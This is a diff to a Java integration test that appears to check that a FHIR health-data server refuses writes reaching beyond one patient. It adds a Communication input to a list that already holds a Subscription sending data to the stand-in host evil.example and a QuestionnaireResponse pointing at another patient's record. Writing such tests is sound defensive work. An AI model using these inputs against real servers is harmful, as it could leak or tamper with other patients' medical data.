@@ -166,6 +166,7 @@ class EscapesIT {
         "{\"resourceType\":\"Subscription\",\"status\":\"requested\",\"reason\":\"x\",\"criteria\":\"Observation?\",\"channel\":{\"type\":\"rest-hook\",\"endpoint\":\"https://evil.example\"}}",
         "{\"resourceType\":\"SearchParameter\",\"status\":\"active\",\"code\":\"x\"}",
         "{\"resourceType\":\"QuestionnaireResponse\",\"status\":\"completed\",\"subject\":{\"reference\":\"Patient/test-patient\"},\"item\":[{\"linkId\":\"1\",\"answer\":[{\"valueReference\":{\"reference\":\"Patient/escape-other\"}}]}]}",
+        "{\"resourceType\":\"Communication\",\"status\":\"completed\",\"meta\":{\"tag\":[{\"system\":\"urn:t\",\"code\":\"x\"}]},\"subject\":{\"reference\":\"Patient/test-patient\"}}",
         "{\"resourceType\":\"Communication\",\"status\":\"completed\",\"meta\":{\"source\":\"urn:s\"},\"subject\":{\"reference\":\"Patient/test-patient\"}}"
       })
   void nothingIsWrittenThatReachesIntoOthers(String json) {
